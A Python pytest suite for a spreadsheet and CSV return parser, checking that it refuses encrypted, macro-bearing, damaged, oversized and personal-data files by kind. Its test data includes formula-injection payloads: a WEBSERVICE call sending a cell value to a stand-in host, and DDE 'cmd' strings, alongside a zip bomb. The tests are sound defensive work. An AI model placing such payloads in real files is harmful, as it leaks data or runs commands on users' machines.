"""The door: what is not taken in is refused by kind, without echo, and what is doubtful is told."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from horizontal.errors import CatalogueError, FileNotReachable
from horizontal.parsers import read_return
from horizontal.parsers.limits import Limits
from horizontal.parsers.returns.mapping import ReturnMapping, load_mapping, mapping_text
from horizontal.parsers.returns.read_return import return_of
from horizontal.provider_return import How
from horizontal.requirements.load_return_specification import load_return_specification
from tests.parsers.returns.forms import ALPHA, FIGURES, HEAD, THIRD, WORDS, column, figures
from tests.parsers.returns.sheet_builder import csv, ods, ods_rows, read, said, workbook, zipped
from tests.parsers.returns.xlsx_builder import xlsx
from tests.parsers.word_builder import para, word_file

FORM = workbook({"Return": [*HEAD, ["Question", "Answer", "Comments"], *column(FIGURES)]})
LOCKED = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 512
)


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(name, content)
    return out.getvalue()


def test_a_file_is_read_by_its_path(tmp_path: Path) -> None:
    (tmp_path / "return.xlsx").write_bytes(FORM)
    found = read_return(tmp_path / "return.xlsx")
    assert [said(record) for record in found.records] == [ALPHA | THIRD | figures()]
    assert found.sha256
    assert found.path.endswith("return.xlsx")


def test_no_such_file_and_a_folder_are_errors(tmp_path: Path) -> None:
    for path in (tmp_path / "none.xlsx", tmp_path):
        with pytest.raises(FileNotReachable):
            read_return(path)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"", "empty"),
        (workbook({"Return": []}), "empty"),
        (LOCKED, "encrypted"),
        (with_part(FORM, "xl/vbaProject.bin", b"x"), "macro"),
        (FORM[: len(FORM) // 2], "damaged"),
        (xlsx("<row"), "damaged"),
        (
            workbook({"R": [*HEAD, *column(FIGURES), ["x", '=WEBSERVICE("http://x.example/"&B4)']]}),
            "formula_injection",
        ),
        (csv([*HEAD, *column(FIGURES), ["x", "=cmd|' /C calc'!A0"]]), "formula_injection"),
        (csv([["x", "@SUM(1+1)*cmd|' /C calc'!A0"]]), "formula_injection"),
        (
            workbook({"Budget": [["Item", "Cost"], ["Chairs", 12], ["Tables", 30], ["Lamps", 4]]}),
            "not_a_return",
        ),
        (b"Dear all,\r\n\r\nPlease find our figures by post.\r\n", "not_a_return"),
        (word_file(para("People asked: 12")), "not_a_return"),
        (b"%PDF-1.4\n1 0 obj\n", "not_a_return"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "not_a_return"),
    ],
)
def test_what_is_not_taken_in_is_refused_by_kind(data: bytes, kind: str) -> None:
    found = read(data)
    assert found.refused is not None
    assert (found.refused.kind, found.records, found.understood) == (kind, (), ())
    where, what, do_next = found.refused.message.replace("; ", ": ", 1).split(": ", 2)
    assert where.startswith("return.xlsx")
    assert what
    assert do_next


def test_a_file_over_the_bounds_is_refused(tmp_path: Path) -> None:
    (tmp_path / "return.xlsx").write_bytes(FORM)
    found = read_return(tmp_path / "return.xlsx", limits=Limits(file_bytes=100))
    assert found.refused is not None
    assert found.refused.kind == "too_large"


def test_a_bomb_of_zeros_is_refused() -> None:
    found = read(
        zipped({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": b"\0" * (20 * 1024 * 1024)})
    )
    assert found.refused is not None
    assert found.refused.kind in ("too_large", "damaged")


SECRETS = ("Jolene Testwell", "03/02/1988", "07700 900142")


@pytest.mark.parametrize("place", ["comment column", "label", "csv", "ods"])
def test_data_of_a_person_is_refused_by_address_and_never_echoed(place: str) -> None:
    rows = [*HEAD, ["Question", "Answer", "Comments"], *column(FIGURES)]
    words = f"{SECRETS[0]} (dob {SECRETS[1]}), call {SECRETS[2]}"
    rows[4] = [words, 12] if place == "label" else [*rows[4][:2], words]
    data = (
        csv(rows)
        if place == "csv"
        else ods({"Return": ods_rows(rows)})
        if place == "ods"
        else workbook({"Return": rows})
    )
    found = read(data)
    assert found.refused is not None
    assert found.refused.kind == "personal_data"
    assert {person.cell for person in found.personal_data} == {"A5" if place == "label" else "C5"}
    assert {person.kind for person in found.personal_data} == {"name_and_birth_date", "phone"}
    text = found.model_dump_json()
    assert not any(secret in text for secret in (*SECRETS, "Testwell", "900142"))


def test_every_conversion_and_every_heading_is_told() -> None:
    found = read(
        csv(
            [
                *HEAD,
                ["Question", "Answer"],
                *column(("12 people", *FIGURES[1:])),
                ["Cost of the course", "£45"],
            ]
        )
    )
    (record,) = found.records
    assert record.items["T01"].conversion == "its unit left away"
    assert record.items["period_start"].conversion
    headings = {heading.cell: (heading.item, heading.how) for heading in found.understood}
    assert headings["A4"] == ("T01", How.WORDING)
    assert headings["A12"][0] is None
    assert all(0 <= heading.confidence <= 1 for heading in found.understood)


def test_a_mapping_says_what_words_and_cells_stand_for() -> None:
    rows = [*HEAD, ["Question", "Answer"], ["Widgets", 5], ["Gadgets", 6], *column(FIGURES)[4:]]
    mapping = ReturnMapping(headings={"widgets": "E01"}, cells={"Return!A5": "E03", "Return!A6": "none"})
    specification = load_return_specification()
    from_nothing = said(read(workbook({"Return": rows})).records[0])
    assert "E01" not in from_nothing

    mapped = said(return_of(workbook({"Return": rows}), "x", specification, mapping).records[0])
    assert (mapped["E01"], mapped["E03"]) == (5, 6)
    assert "E05" not in mapped


def test_the_mapping_of_a_return_can_be_saved_and_used_again(tmp_path: Path) -> None:
    found = read(FORM)
    file = tmp_path / "map.toml"
    file.write_text(mapping_text(found), encoding="utf-8")
    mapping = load_mapping(file, load_return_specification())
    assert mapping.headings[WORDS[0]] == "T01"
    (tmp_path / "return.xlsx").write_bytes(FORM)
    again = read_return(tmp_path / "return.xlsx", mapping=file)
    assert said(again.records[0]) == said(found.records[0])
    assert {heading.how for heading in again.understood} <= {How.MAPPING, How.OTHER}


def test_all_faults_of_a_mapping_are_told(tmp_path: Path) -> None:
    file = tmp_path / "map.toml"
    file.write_text('[headings]\nA = "E99"\n[cells]\n"row 7" = "E01"\n', encoding="utf-8")
    with pytest.raises(CatalogueError) as fault:
        load_mapping(file, load_return_specification())
    assert len(fault.value.faults) == 2
    with pytest.raises(FileNotReachable):
        load_mapping(tmp_path / "none.toml", load_return_specification())
    file.write_text("not = [toml", encoding="utf-8")
    with pytest.raises(CatalogueError):
        load_mapping(file, load_return_specification())


def test_the_same_file_gives_the_same_bytes() -> None:
    assert read(FORM).model_dump_json() == read(FORM).model_dump_json()
